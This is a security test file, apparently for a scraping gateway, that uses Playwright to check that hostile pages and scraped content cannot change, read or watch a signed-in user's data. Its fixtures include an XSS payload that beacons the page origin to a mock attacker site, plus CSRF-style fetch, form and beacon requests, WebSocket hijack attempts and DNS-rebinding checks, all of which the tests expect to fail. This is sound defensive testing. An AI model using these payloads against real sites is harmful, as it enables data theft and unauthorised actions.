"""What a hostile web page or hostile scraped bytes can do through a browser whose user has signed in: nothing."""

import asyncio
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import AsyncExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
import pytest_asyncio
from playwright.async_api import Browser, BrowserContext, Error, Page, async_playwright
from pydantic import SecretStr

from scrapeyard.gateway.auth.documents import KeyCall
from scrapeyard.gateway.page import BUILT, INDEX
from scrapeyard.gateway.server import GatewayServer
from scrapeyard.gateway.services import GatewayServices
from scrapeyard.model import Artifact, ExitReason
from scrapeyard.model.identity import Role
from scrapeyard.settings import GatewaySettings, OidcSettings, Settings
from scrapeyard.store.ports.runs import Ending
from tests.integration.gateway.test_gateway_server import serving, take
from tests.integration.gateway_stand import open_services, outcome_of, raw, run_of
from tests.leaks import PATIENCE
from tests.services.browser import found_browser
from tests.services.issuer import CLIENT, SECRET, serve
from tests.services.static_site import StaticSite

pytestmark = [pytest.mark.security, pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--host-resolver-rules=MAP *.example 127.0.0.1, EXCLUDE 127.0.0.1",
]
JOB = {"scraper": "shop/product", "items": ["https://a.example/1"], "paused": True}
BODY = '{"scraper":"shop/product","items":["https://a.example/2"],"x":"="}'


@dataclass(kw_only=True)
class Target:
    """A gateway with a paused job, a run that waits and one that left hostile files; and how to look at it."""

    server: GatewayServer
    services: GatewayServices
    headers: dict[str, str] = field(default_factory=dict)
    job: str = ""
    waiting: str = ""
    ended: str = ""

    @property
    def url(self) -> str:
        return self.server.url

    async def get(self, path: str) -> Any:
        async with httpx.AsyncClient(timeout=PATIENCE, trust_env=False) as client:
            return (await client.get(self.url + path, headers=self.headers)).json()

    async def post(self, path: str, body: Any) -> Any:
        async with httpx.AsyncClient(timeout=PATIENCE, trust_env=False) as client:
            answer = await client.post(self.url + path, json=body, headers=self.headers)
            assert answer.status_code < 300, answer.text
            return answer.json()

    async def refused(self) -> int:
        """Calls that were refused for the page that made them."""
        await self.server._gateway.audit._flush()
        self.server._gateway.audit._close_windows(everything=True)
        await self.server._gateway.audit._flush()
        rows = (await self.get("/api/audit?limit=200"))["rows"]
        return sum(row["count"] for row in rows if row["code"] in ("origin_refused", "csrf_refused"))


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[StaticSite]:
    site = StaticSite(tmp_path_factory.mktemp("evil"))
    html = {"Content-Type": "text/html"}
    site.habits["/"] = lambda handler, _: handler.answer(200, b"<!doctype html><body>", html)
    site.habits["/control"] = lambda handler, _: handler.answer(200, hostile(site).encode(), html)
    site.start()
    yield site
    site.stop()


def hostile(evil: StaticSite) -> str:
    """A page that tells the attacker where it runs, by a script and by an attribute."""
    tell = f"new Image().src='{evil.url}stolen?'+location.origin"
    return f'<html><body><script>{tell}</script><img src="x:" onerror="{tell}"></body></html>'


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def targets(tmp_path_factory: pytest.TempPathFactory, evil: StaticSite) -> AsyncIterator[dict[str, Target]]:
    """One that nobody needs a key for, and one that its user has signed in to."""
    async with AsyncExitStack() as stack:
        found = {}
        for name in ("open", "keys"):
            folder = tmp_path_factory.mktemp(name)
            server, services = await stack.enter_async_context(serving(folder))
            found[name] = target = Target(server=server, services=services)
            if name == "keys":
                draft = KeyCall(name="ann", role=Role.ADMIN).draft(time.time())
                target.headers = {"X-API-Key": (await server._gateway.keys.create(draft))[1]}
            await _fill(target, evil)
        yield found


async def _fill(target: Target, evil: StaticSite) -> None:
    bad = hostile(evil)
    target.job = (await target.post("/api/jobs", {**JOB, "name": bad[:200], "items": [f"https://a.example/{bad}"]}))[
        "id"
    ]
    call = {"scraper": "shop/product", "input": {"url": f"https://a.example/{bad}"}, "wait": 0}
    target.ended = (await target.post("/api/scrape", call))["id"]
    delivery = await take(target.services)
    kept = []
    for name, kind in (("a.html", "text/html"), ("a.svg", "image/svg+xml"), ("a.xht", "application/xhtml+xml")):
        key = f"runs/{target.ended}/1/artifacts/{name}"
        await target.services.blobs.put(key, bad.encode(), kind)
        kept.append(Artifact(name=name, content_type=kind, size=len(bad), key=key))
    outcome = outcome_of(delivery, ExitReason.SUCCEEDED, result=raw({"html": bad}), artifacts=tuple(kept))
    await target.services.store.runs.finish([Ending(run=run_of(delivery), outcome=outcome)])
    target.waiting = (await target.post("/api/scrape", call))["id"]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    executable = found_browser("playwright")
    async with async_playwright() as driver:
        opened = await driver.chromium.launch(executable_path=executable or None, args=FLAGS)
        yield opened
        await opened.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def context(browser: Browser, targets: dict[str, Target]) -> AsyncIterator[BrowserContext]:
    """Of the user who has signed in."""
    context = await browser.new_context()
    context.set_default_timeout(PATIENCE * 1000)
    key = targets["keys"].headers["X-API-Key"]
    answer = await context.request.post(f"{targets['keys'].url}/api/session", data={"key": key})
    assert answer.status == 201
    yield context
    await context.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def page(context: BrowserContext) -> Page:
    return await context.new_page()


CHANGES = """async ([target, job, body]) => {
  const post = {method: "POST", mode: "no-cors", credentials: "include"};
  const plain = {...post, headers: {"Content-Type": "text/plain"}, body};
  const form = {...post, body: new URLSearchParams({key: "sy_attacker"})};
  const told = [];
  for (const [path, how] of [
    ["/api/jobs", plain], ["/api/scrape", plain], ["/api/keys", plain], ["/api/session", plain], ["/api/session", form],
    [`/api/jobs/${job}/resume`, post], [`/api/jobs/${job}/cancel`, post],
    [`/api/jobs/${job}`, {...post, mode: "cors", method: "DELETE"}],
    ["/api/jobs", {...post, mode: "cors", headers: {"Content-Type": "application/json"}, body}],
    ["/api/jobs", {...post, mode: "cors", headers: {"X-CSRF-Token": "x"}, body}],
  ]) {
    try { const answer = await fetch(target + path, how); told.push(answer.type + " " + answer.status) }
    catch (error) { told.push("refused") }
  }
  navigator.sendBeacon(target + "/api/jobs", body);
  return told;
}"""
FORM = """async ([target, body, type]) => {
  const frame = Object.assign(document.createElement("iframe"), {name: "hidden"});
  document.body.append(frame);
  const form = Object.assign(document.createElement("form"),
    {method: "post", enctype: type, action: target + "/api/jobs", target: "hidden"});
  const [name, value] = body.split("=");
  form.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(form);
  const loaded = new Promise(resolve => frame.addEventListener("load", resolve, {once: true}));
  form.submit();
  await loaded;
  frame.remove();
}"""
READS = """async ([target, path]) => {
  const answers = [];
  for (const how of [{credentials: "include"}, {credentials: "include", mode: "no-cors"}]) {
    try { const answer = await fetch(target + path, how); answers.push(await answer.text()) }
    catch (error) { answers.push("") }
  }
  const script = Object.assign(document.createElement("script"), {src: target + path});
  answers.push(await new Promise(resolve => {
    script.onload = () => resolve("ran"); script.onerror = () => resolve(""); document.head.append(script);
  }));
  return answers.join("");
}"""
SOCKET = """url => new Promise(resolve => {
  const socket = new WebSocket(url);
  socket.onopen = () => { resolve("open"); socket.close() };
  socket.onerror = () => resolve("refused");
})"""


@pytest.fixture(params=["same-site", "cross-site"])
def foreign(request: pytest.FixtureRequest, evil: StaticSite) -> str:
    """Where the attacker's page comes from. Another port of the same host gets even strict cookies."""
    host = "127.0.0.1" if request.param == "same-site" else "evil.example"
    return f"http://{host}:{evil.port}/"


@pytest.mark.parametrize("name", ["open", "keys"])
async def test_a_foreign_page_changes_nothing(page: Page, targets: dict[str, Target], name: str, foreign: str) -> None:
    target = targets[name]
    await page.goto(foreign)
    before, jobs, runs = await target.refused(), await target.get("/api/jobs"), await target.get("/api/scrape")
    told = await page.evaluate(CHANGES, [target.url, target.job, BODY])
    assert set(told) <= {"refused", "opaque 0"}, "a page may send, and reads nothing"
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        await page.evaluate(FORM, [target.url, BODY, kind])
    assert await target.get("/api/jobs") == jobs
    assert await target.get("/api/scrape") == runs
    assert len((await target.get("/api/keys"))["keys"]) == (name == "keys")
    assert (await page.request.get(f"{target.url}/api/session")).ok
    assert await target.refused() >= before + 10, "the attacks reached the gateway"


@pytest.mark.parametrize("name", ["open", "keys"])
async def test_a_foreign_page_reads_nothing(page: Page, targets: dict[str, Target], name: str, foreign: str) -> None:
    await page.goto(foreign)
    for path in ("/api/session", "/api/jobs", "/api/keys", "/api/scrape"):
        assert await page.evaluate(READS, [targets[name].url, path]) == "", path


@pytest.mark.parametrize("name", ["open", "keys"])
async def test_a_foreign_page_watches_nothing(page: Page, targets: dict[str, Target], name: str, foreign: str) -> None:
    target = targets[name]
    sockets = [
        target.url.replace("http", "ws") + path
        for path in (f"/api/scrape/{target.waiting}/live", f"/api/jobs/{target.job}/ws")
    ]
    await page.goto(foreign)
    assert [await page.evaluate(SOCKET, url) for url in sockets] == ["refused", "refused"]
    await page.goto(f"{target.url}/api/live")
    assert [await page.evaluate(SOCKET, url) for url in sockets] == ["open", "open"], "our own page does"


@pytest.mark.parametrize("name", ["open", "keys"])
async def test_a_name_that_was_bound_anew_reaches_nothing(page: Page, targets: dict[str, Target], name: str) -> None:
    url = f"http://rebound.example:{targets[name].url.rpartition(':')[2]}"
    answer = await page.goto(f"{url}/api/live")  # the files of our page are for everybody
    assert answer is not None
    assert answer.status == 421
    call = "([path, how]) => fetch(path, how).then(answer => answer.status)"
    for path, how in (("/api/jobs", {}), ("/api/jobs", {"method": "POST", "body": BODY}), ("/api/session", {})):
        assert await page.evaluate(call, [path, how]) == 421
    assert await page.evaluate(SOCKET, f"{url.replace('http', 'ws')}/api/jobs/{targets[name].job}/ws") == "refused"


@pytest.mark.parametrize("name", ["open", "keys"])
async def test_hostile_bytes_never_run_in_our_origin(
    page: Page, targets: dict[str, Target], name: str, evil: StaticSite
) -> None:
    target, run = targets[name], f"/api/scrape/{targets[name].ended}"
    await page.goto(evil.url + "control")
    await _until_told(evil)
    evil.forget()
    shown = [f"{run}?x={hostile(evil)}", f"/api/{hostile(evil)}", run, f"{run}/logs", f"{run}/explain", "/api/scrape"]
    files = [f"{run}/artifacts/{each}" for each in ("a.html", "a.svg", "a.xht")]
    for path in (*shown, *files):
        downloaded = False
        try:
            await page.goto(target.url + path)
        except Error as error:
            downloaded = "Download is starting" in str(error)
        assert downloaded == (path in files), path
    await page.goto(f"{target.url}/api/live")
    for path in (*shown, *files):
        await page.evaluate(FRAME, path)
    # a marker that comes after whatever the frames have sent
    await page.evaluate("url => fetch(url, {mode: 'no-cors'})", evil.url + "end")
    await _until_told(evil, "/end")
    assert [path for _, path, _ in evil.asked if path.startswith("/stolen")] == []


FRAME = """path => new Promise(resolve => {
  for (const [tag, name] of [["iframe", "src"], ["object", "data"], ["embed", "src"]])
    document.body.append(Object.assign(document.createElement(tag), {[name]: path}));
  const image = new Image();
  image.onload = image.onerror = () => resolve();
  image.src = path;
})"""


@pytest.mark.skipif(not (BUILT / INDEX).is_file(), reason="the page is not built; `make page` builds it")
@pytest.mark.parametrize("name", ["open", "keys"])
async def test_our_page_shows_hostile_strings_as_text(
    page: Page, targets: dict[str, Target], name: str, evil: StaticSite
) -> None:
    target = targets[name]
    evil.forget()
    for path in ("/runs", f"/runs/{target.ended}", "/jobs", f"/jobs/{target.job}"):
        await page.goto(target.url + path)
        await page.get_by_text("onerror=").first.wait_for()
    await page.goto(f"{evil.url}end")
    await _until_told(evil, "/end")
    assert [path for _, path, _ in evil.asked if path.startswith("/stolen")] == []


async def _until_told(evil: StaticSite, word: str = "/stolen") -> None:
    async with asyncio.timeout(PATIENCE):
        while not any(path.startswith(word) for _, path, _ in evil.asked):
            await asyncio.sleep(0.02)


async def test_our_page_is_not_framed(page: Page, targets: dict[str, Target], foreign: str) -> None:
    """So that nobody clicks on it unawares."""
    await page.goto(foreign)
    frame = await page.evaluate_handle(
        """url => new Promise(resolve => { const frame = document.createElement("iframe"); frame.src = url;
        frame.onload = () => resolve(frame); document.body.append(frame) })""",
        f"{targets['open'].url}/docs",
    )
    inside = await frame.as_element().content_frame()  # type: ignore[union-attr]
    assert inside is not None
    assert await inside.evaluate("document.querySelector('#reference')") is None


async def test_people_come_back_from_a_provider_of_another_site_with_their_session(
    browser: Browser, tmp_path: Path
) -> None:
    """The session's cookie is strict, and the browser comes from elsewhere."""
    with serve() as issuer:
        issuer.asks = True
        oidc = OidcSettings(
            issuer=issuer.url, audience="a", client_id=CLIENT, client_secret=SecretStr(SECRET), default_role="viewer"
        )
        settings = Settings(gateway=GatewaySettings(port=0), oidc=oidc)
        async with open_services(tmp_path, settings) as services:
            server = GatewayServer(services)
            await server.start()
            page = await browser.new_page()
            page.set_default_timeout(PATIENCE * 1000)
            try:
                url = server.url.replace("127.0.0.1", "localhost")
                await page.goto(f"{url}/api/session/oidc/start?next=/api/identity")
                await page.click("text=yes")
                await page.wait_for_url(f"{url}/api/identity")
                assert '"role":"viewer"' in await page.inner_text("body")
                (cookie,) = await page.context.cookies()
                assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
            finally:
                await page.close()
                await server.stop()
